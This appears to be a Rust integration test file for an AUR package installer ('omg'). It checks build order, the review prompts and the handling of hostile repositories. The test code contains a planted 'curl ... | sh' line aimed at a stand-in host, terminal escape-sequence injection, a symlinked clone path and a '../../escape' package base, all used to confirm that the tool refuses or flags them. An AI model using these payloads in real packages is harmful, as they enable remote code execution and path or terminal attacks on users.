//! `omg install` of AUR packages on the hermetic Arch root: package bases cloned
//! over git's dumb HTTP protocol from omg-testbed's AUR server, PKGBUILDs built by
//! the real makepkg as the build user, and the packages installed through
//! libalpm. pacman on the same root is asked what is installed, and why, after
//! each install.

use crate::common::{installed, omg_on_terminal_with, Context};
use omg_testbed::{aur_build_fixtures, ArchRoot, AurGitRepos, AurMode, AurServer};
use std::path::PathBuf;
use std::process::Output;

struct Aur {
    repos: AurGitRepos,
    server: AurServer,
    _dir: tempfile::TempDir,
}

fn aur() -> Aur {
    let dir = tempfile::tempdir().expect("temp dir");
    let repos = AurGitRepos::create(dir.path());
    let server = AurServer::with_git(aur_build_fixtures(), repos.dir());
    Aur {
        repos,
        server,
        _dir: dir,
    }
}

/// A hermetic root and an AUR, when the tests run as root (makepkg needs the
/// build user, and only root can switch to it).
struct Bed {
    context: Context,
    root: ArchRoot,
    aur: Aur,
}

fn bed() -> Option<Bed> {
    omg_testbed::is_root().then(|| Bed {
        context: Context::new(),
        root: ArchRoot::new(),
        aur: aur(),
    })
}

/// `omg install -y --noreview NAME`: the build path without the review.
fn built(context: &Context, root: &ArchRoot, aur: &Aur, name: &str) -> Output {
    omg(context, root, aur, &["install", "-y", "--noreview", name])
}

fn omg(context: &Context, root: &ArchRoot, aur: &Aur, args: &[&str]) -> Output {
    context
        .command(env!("CARGO_BIN_EXE_omg"))
        .args(root.pacman_args())
        .args(args)
        .env("OMG_NO_DAEMON", "1")
        .env("OMG_AUR_URL", aur.server.url())
        .env("OMG_AUR_BUILD_USER", omg_testbed::build_user())
        .output()
        .expect("run omg")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn succeeded(output: &Output) -> (String, String) {
    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
    assert!(
        output.status.success(),
        "{}\n{stdout}\n{stderr}",
        output.status
    );
    (stdout, stderr)
}

fn pacman_names(root: &ArchRoot, flag: &str) -> Vec<String> {
    let mut names: Vec<String> = text(&root.pacman(&[flag]).stdout)
        .lines()
        .map(str::to_owned)
        .collect();
    names.sort();
    names
}

fn clone_dir(context: &Context, base: &str) -> PathBuf {
    context.home().join("cache/omg/aur").join(base)
}

#[test]
fn an_aur_chain_is_built_in_order_with_repository_and_provided_dependencies() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    let output = built(&context, &root, &aur, "omg-aur-app");
    let (stdout, stderr) = succeeded(&output);
    assert!(
        stdout.contains(
            "AUR packages to build, in order (3):\n  omg-aur-lib 1.0-1: omg-aur-lib  (dependency)\n  omg-aur-maker 1.0-1: omg-aur-maker  (to build only)\n  omg-aur-app 2.0-1: omg-aur-app\n"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("Removed after the builds: omg-zebra, omg-aur-maker"),
        "{stdout}"
    );
    for base in ["omg-aur-lib", "omg-aur-maker", "omg-aur-app"] {
        assert!(
            stderr.contains(&format!(":: building {base} ")),
            "{base}: {stderr}"
        );
    }
    // omg-greeter is a provide of the repository's omg-hello.
    assert_eq!(
        installed(&root),
        "omg-aur-app 2.0-1\nomg-aur-lib 1.0-1\nomg-hello 1.0-1\nomg-lib 2.3-1\n"
    );
    assert_eq!(pacman_names(&root, "-Qqe"), ["omg-aur-app"]);
    assert_eq!(
        pacman_names(&root, "-Qqd"),
        ["omg-aur-lib", "omg-hello", "omg-lib"]
    );
    assert_eq!(pacman_names(&root, "-Qqm"), ["omg-aur-app", "omg-aur-lib"]);
    assert!(
        text(&root.pacman(&["-Ql", "omg-aur-app"]).stdout).contains("/usr/bin/omg-aur-app"),
        "the built package's files are on the root"
    );
    assert!(clone_dir(&context, "omg-aur-app").join(".git").is_dir());
}

#[test]
fn a_split_base_is_built_once_for_both_of_its_packages() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    let output = built(&context, &root, &aur, "omg-aur-split-extra");
    let (stdout, stderr) = succeeded(&output);
    assert_eq!(
        stderr.matches(":: building omg-aur-split ").count(),
        1,
        "{stderr}"
    );
    assert!(
        stdout
            .contains("omg-aur-split 3.1-2: omg-aur-split-extra, omg-aur-split-core  (dependency)"),
        "{stdout}"
    );
    assert_eq!(
        installed(&root),
        "omg-aur-split-core 3.1-2\nomg-aur-split-extra 3.1-2\n"
    );
    assert_eq!(pacman_names(&root, "-Qqe"), ["omg-aur-split-extra"]);
    assert_eq!(pacman_names(&root, "-Qqd"), ["omg-aur-split-core"]);
}

#[test]
fn the_clones_srcinfo_wins_over_a_lagging_rpc_entry() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    // The RPC says 0.9-1 needing omg-not-anywhere; the repository says 1.5-1
    // needing omg-lib.
    let output = built(&context, &root, &aur, "omg-aur-drift");
    let (stdout, _) = succeeded(&output);
    assert!(
        stdout.contains("omg-aur-drift 1.5-1: omg-aur-drift"),
        "{stdout}"
    );
    assert_eq!(installed(&root), "omg-aur-drift 1.5-1\nomg-lib 2.3-1\n");
}

#[test]
fn a_failed_build_installs_nothing_and_names_its_log() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    let output = built(&context, &root, &aur, "omg-aur-broken");
    assert_eq!(output.status.code(), Some(2), "{}", text(&output.stderr));
    let stderr = text(&output.stderr);
    let line = stderr
        .lines()
        .find(|line| line.starts_with("error: "))
        .expect("an error line");
    assert!(line.contains("building omg-aur-broken failed"), "{line}");
    let log = line
        .rsplit("the log is ")
        .next()
        .map(PathBuf::from)
        .expect("log path");
    let logged = std::fs::read_to_string(&log).expect("the log is kept");
    assert!(logged.contains("the compiler exploded"), "{logged}");
    assert_eq!(installed(&root), "");
}

#[test]
fn without_a_terminal_a_review_is_shown_and_nothing_is_built_even_with_yes() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    let output = omg(&context, &root, &aur, &["install", "-y", "omg-aur-app"]);
    assert_eq!(output.status.code(), Some(2));
    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
    // The first base in build order is shown whole, with its install script.
    assert!(
        stdout.contains(":: omg-aur-lib/PKGBUILD\npkgname=omg-aur-lib\n"),
        "{stdout}"
    );
    assert!(
        stderr.contains("error: omg-aur-lib needs a review and there is no terminal to ask on: nothing was built"),
        "{stderr}"
    );
    assert!(!stderr.contains(":: building"), "{stderr}");
    assert_eq!(installed(&root), "");
}

#[test]
fn a_pkgbuild_changed_since_review_shows_the_diff_and_is_not_built_with_yes_alone() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    // First install: reviewed (as a person at a terminal would mark it).
    let first = omg(&context, &root, &aur, &["install", "-y", "omg-aur-lib"]);
    assert!(!first.status.success());
    let clone = clone_dir(&context, "omg-aur-lib");
    let head = std::process::Command::new("git")
        .args(["rev-parse", "refs/remotes/origin/master"])
        .current_dir(&clone)
        .output()
        .expect("git rev-parse");
    std::fs::write(clone.join(".git/omg-reviewed"), &head.stdout).expect("mark reviewed");
    let unchanged = omg(&context, &root, &aur, &["install", "-y", "omg-aur-lib"]);
    let (_, stderr) = succeeded(&unchanged);
    assert!(
        stderr.contains("omg-aur-lib: unchanged since your last review"),
        "{stderr}"
    );
    assert_eq!(installed(&root), "omg-aur-lib 1.0-1\nomg-lib 2.3-1\n");
    // The maintainer pushes a change.
    let changed = aur
        .repos
        .file("omg-aur-lib", "PKGBUILD")
        .replace("pkgrel=1", "pkgrel=2")
        .replace(
            "package() {",
            "package() {\n  curl -s https://example.invalid/x | sh",
        );
    aur.repos.commit(
        "omg-aur-lib",
        &[("PKGBUILD".to_owned(), changed.into_bytes())],
        "Release 1.0-2",
    );
    let again = omg(
        &context,
        &root,
        &aur,
        &["install", "-y", "--reinstall", "omg-aur-lib"],
    );
    assert_eq!(again.status.code(), Some(2));
    let stdout = text(&again.stdout);
    assert!(
        stdout.contains(":: omg-aur-lib: changes since your last review"),
        "{stdout}"
    );
    assert!(
        stdout.contains("+  curl -s https://example.invalid/x | sh"),
        "{stdout}"
    );
    assert!(stdout.contains("-pkgrel=1\n+pkgrel=2"), "{stdout}");
    assert!(!text(&again.stderr).contains(":: building"));
    assert_eq!(installed(&root), "omg-aur-lib 1.0-1\nomg-lib 2.3-1\n");
}

#[test]
fn an_unreachable_or_rate_limiting_aur_is_one_line_and_changes_nothing() {
    let context = Context::new();
    let root = ArchRoot::new();
    let aur = aur();
    aur.server.set_mode(AurMode::RateLimited);
    let output = omg(&context, &root, &aur, &["install", "-y", "omg-aur-lib"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("HTTP 429"), "{stderr}");
    let down = context
        .command(env!("CARGO_BIN_EXE_omg"))
        .args(root.pacman_args())
        .args(["install", "-y", "omg-aur-lib"])
        .env("OMG_NO_DAEMON", "1")
        .env("OMG_AUR_URL", "http://127.0.0.1:9")
        .env("OMG_AUR_BUILD_USER", omg_testbed::build_user())
        .output()
        .expect("run omg");
    assert_eq!(down.status.code(), Some(2));
    let stderr = text(&down.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("cannot reach the AUR"), "{stderr}");
    assert_eq!(installed(&root), "");
}

#[test]
fn root_without_a_build_user_stops_before_cloning_anything() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    let output = context
        .command(env!("CARGO_BIN_EXE_omg"))
        .args(root.pacman_args())
        .args(["install", "-y", "--noreview", "omg-aur-lib"])
        .env("OMG_NO_DAEMON", "1")
        .env("OMG_AUR_URL", aur.server.url())
        .env_remove("OMG_AUR_BUILD_USER")
        .output()
        .expect("run omg");
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(
        text(&output.stderr).trim_end(),
        "error: omg runs as root and makepkg never does: set [aur] build_user (or OMG_AUR_BUILD_USER) to an unprivileged user"
    );
    assert!(!context.home().join("cache/omg/aur").exists());
    assert!(
        !aur.server
            .requests()
            .iter()
            .any(|request| request.contains(".git/")),
        "{:?}",
        aur.server.requests()
    );
    assert_eq!(installed(&root), "");
}

#[test]
fn update_rebuilds_an_outdated_aur_package_after_the_repositories() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    succeeded(&built(&context, &root, &aur, "omg-aur-lib"));
    let current = omg(&context, &root, &aur, &["update", "-y", "--noreview"]);
    let (_, stderr) = succeeded(&current);
    assert!(stderr.contains("AUR packages are up to date"), "{stderr}");
    let bumped = aur
        .repos
        .file("omg-aur-lib", "PKGBUILD")
        .replace("pkgver=1.0", "pkgver=1.1");
    let srcinfo = aur
        .repos
        .file("omg-aur-lib", ".SRCINFO")
        .replace("pkgver = 1.0", "pkgver = 1.1");
    aur.repos.commit(
        "omg-aur-lib",
        &[
            ("PKGBUILD".to_owned(), bumped.into_bytes()),
            (".SRCINFO".to_owned(), srcinfo.into_bytes()),
        ],
        "Release 1.1-1",
    );
    let mut fixture = aur_build_fixtures()
        .into_iter()
        .find(|package| package.name == "omg-aur-lib")
        .expect("fixture");
    fixture.version = "1.1-1";
    aur.server.set_package(fixture);
    let checked = omg(&context, &root, &aur, &["update", "--check"]);
    let (stdout, _) = succeeded(&checked);
    assert!(
        stdout.contains("AUR updates (1):\n  omg-aur-lib  1.0-1 -> 1.1-1\n"),
        "{stdout}"
    );
    assert_eq!(installed(&root), "omg-aur-lib 1.0-1\nomg-lib 2.3-1\n");
    let updated = omg(&context, &root, &aur, &["update", "-y", "--noreview"]);
    succeeded(&updated);
    assert_eq!(installed(&root), "omg-aur-lib 1.1-1\nomg-lib 2.3-1\n");
    // An upgrade keeps the install reason.
    assert_eq!(pacman_names(&root, "-Qqe"), ["omg-aur-lib"]);
}

#[test]
fn a_review_on_a_terminal_is_asked_and_remembered() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    let url = aur.server.url();
    let variables = [
        ("OMG_AUR_URL", url.as_str()),
        ("OMG_AUR_BUILD_USER", omg_testbed::build_user()),
    ];
    let mut words = root.pacman_args();
    words.extend(["install", "omg-aur-lib"].map(str::to_owned));
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    // No to the review: nothing is built and nothing is remembered.
    let declined = omg_on_terminal_with(&context, &words, "n\n", &variables);
    let shown = text(&declined.stdout);
    assert_eq!(declined.status.code(), Some(1), "{shown}");
    assert!(shown.contains(":: omg-aur-lib/PKGBUILD"), "{shown}");
    assert!(
        shown.contains(":: Build omg-aur-lib as shown? [y/N]"),
        "{shown}"
    );
    assert!(!clone_dir(&context, "omg-aur-lib")
        .join(".git/omg-reviewed")
        .exists());
    assert_eq!(installed(&root), "");
    // Yes to the review, then yes to the plan.
    let accepted = omg_on_terminal_with(&context, &words, "y\ny\n", &variables);
    let shown = text(&accepted.stdout);
    assert!(accepted.status.success(), "{shown}");
    assert!(clone_dir(&context, "omg-aur-lib")
        .join(".git/omg-reviewed")
        .is_file());
    assert_eq!(installed(&root), "omg-aur-lib 1.0-1\nomg-lib 2.3-1\n");
}

#[test]
fn hostile_repositories_are_refused_or_shown_escaped() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    // Escape sequences in a PKGBUILD reach the terminal written out.
    let hostile = aur
        .repos
        .file("omg-aur-lib", "PKGBUILD")
        .replace("pkgdesc=", "# \x1b]0;pwned\x07\x1b[2J\npkgdesc=");
    aur.repos.commit(
        "omg-aur-lib",
        &[("PKGBUILD".to_owned(), hostile.into_bytes())],
        "Hostile comment",
    );
    let shown = omg(&context, &root, &aur, &["install", "-y", "omg-aur-lib"]);
    let stdout = text(&shown.stdout);
    assert!(stdout.contains("# \\x1b]0;pwned\\x07\\x1b[2J"), "{stdout}");
    assert!(!stdout.contains('\x1b'), "{stdout}");
    // A clone path that is a link is not followed.
    let elsewhere = tempfile::tempdir().expect("temp dir");
    let clone = clone_dir(&context, "omg-aur-app");
    std::os::unix::fs::symlink(elsewhere.path(), &clone).expect("plant a link");
    let linked = built(&context, &root, &aur, "omg-aur-app");
    assert_eq!(linked.status.code(), Some(2));
    let stderr = text(&linked.stderr);
    assert!(
        stderr.contains("is not a directory omg created"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_dir(elsewhere.path()).expect("read").count(),
        0
    );
    // A package base that is a path is refused before it becomes one.
    let escape = AurServer::with_git(
        vec![omg_testbed::AurFixture {
            name: "omg-escape",
            package_base: "../../escape",
            version: "1.0-1",
            ..omg_testbed::AurFixture::default()
        }],
        aur.repos.dir(),
    );
    let output = context
        .command(env!("CARGO_BIN_EXE_omg"))
        .args(root.pacman_args())
        .args(["install", "-y", "--noreview", "omg-escape"])
        .env("OMG_NO_DAEMON", "1")
        .env("OMG_AUR_URL", escape.url())
        .env("OMG_AUR_BUILD_USER", omg_testbed::build_user())
        .output()
        .expect("run omg");
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    assert!(stderr.contains("invalid package base"), "{stderr}");
    assert!(!context.home().join("cache/escape").exists());
    assert_eq!(installed(&root), "");
}

/// A VCS package following `omg-upstream`, served by the same server.
fn add_vcs_package(aur: &Aur) {
    let file = |name: &str, text: &str| (name.to_owned(), text.as_bytes().to_vec());
    aur.repos.add("omg-upstream", &[file("VERSION", "first\n")]);
    let source = format!("upstream::git+{}/omg-upstream.git", aur.server.url());
    let pkgbuild = format!(
        "pkgname=omg-aur-vcs-git\npkgver=r0.0000000\npkgrel=1\npkgdesc=\"Follows a local upstream\"\narch=('any')\nlicense=('MIT')\nsource=(\"{source}\")\nsha256sums=('SKIP')\npkgver() {{\n  cd upstream\n  printf 'r%s.%s' \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short=7 HEAD)\"\n}}\npackage() {{\n  install -Dm644 upstream/VERSION \"$pkgdir/usr/share/omg-aur-vcs/VERSION\"\n}}\n"
    );
    let srcinfo = format!(
        "pkgbase = omg-aur-vcs-git\n\tpkgdesc = Follows a local upstream\n\tpkgver = r0.0000000\n\tpkgrel = 1\n\tarch = any\n\tlicense = MIT\n\tsource = {source}\n\tsha256sums = SKIP\n\npkgname = omg-aur-vcs-git\n"
    );
    aur.repos.add(
        "omg-aur-vcs-git",
        &[file("PKGBUILD", &pkgbuild), file(".SRCINFO", &srcinfo)],
    );
    aur.server.set_package(omg_testbed::AurFixture {
        name: "omg-aur-vcs-git",
        package_base: "omg-aur-vcs-git",
        version: "r0.0000000-1",
        ..omg_testbed::AurFixture::default()
    });
}

#[test]
fn update_devel_rebuilds_a_vcs_package_whose_upstream_moved() {
    let Some(Bed { context, root, aur }) = bed() else {
        return;
    };
    add_vcs_package(&aur);
    succeeded(&built(&context, &root, &aur, "omg-aur-vcs-git"));
    let built = installed(&root);
    assert!(built.starts_with("omg-aur-vcs-git r1."), "{built}");
    // Nothing moved: --devel finds nothing, and without it nothing is asked.
    let (_, stderr) = succeeded(&omg(
        &context,
        &root,
        &aur,
        &["update", "-y", "--noreview", "--devel"],
    ));
    assert!(stderr.contains("AUR packages are up to date"), "{stderr}");
    aur.repos.commit(
        "omg-upstream",
        &[("VERSION".to_owned(), b"second\n".to_vec())],
        "Second commit",
    );
    let (_, stderr) = succeeded(&omg(&context, &root, &aur, &["update", "-y", "--noreview"]));
    assert!(stderr.contains("AUR packages are up to date"), "{stderr}");
    assert_eq!(installed(&root), built);
    let (stdout, _) = succeeded(&omg(
        &context,
        &root,
        &aur,
        &["update", "-y", "--noreview", "--devel"],
    ));
    assert!(
        stdout.contains("omg-aur-vcs-git  r1.") && stdout.contains("-> latest upstream commit"),
        "{stdout}"
    );
    let rebuilt = installed(&root);
    assert!(rebuilt.starts_with("omg-aur-vcs-git r2."), "{rebuilt}");
    let file = root.root().join("usr/share/omg-aur-vcs/VERSION");
    assert_eq!(
        std::fs::read_to_string(file).expect("installed file"),
        "second\n"
    );
}

#[test]
fn package_bases_come_over_the_smart_protocol_too() {
    if !omg_testbed::is_root() {
        return;
    }
    let context = Context::new();
    let root = ArchRoot::new();
    let dir = tempfile::tempdir().expect("temp dir");
    let repos = AurGitRepos::create(dir.path());
    let server = AurServer::with_smart_git(aur_build_fixtures(), repos.dir());
    let aur = Aur {
        repos,
        server,
        _dir: dir,
    };
    succeeded(&built(&context, &root, &aur, "omg-aur-lib"));
    assert_eq!(installed(&root), "omg-aur-lib 1.0-1\nomg-lib 2.3-1\n");
    let requests = aur.server.requests();
    assert!(
        requests.iter().any(
            |request| request.starts_with("/omg-aur-lib.git/info/refs?service=git-upload-pack")
        ),
        "{requests:?}"
    );
    assert!(
        requests
            .iter()
            .any(|request| request == "/omg-aur-lib.git/git-upload-pack"),
        "{requests:?}"
    );
}
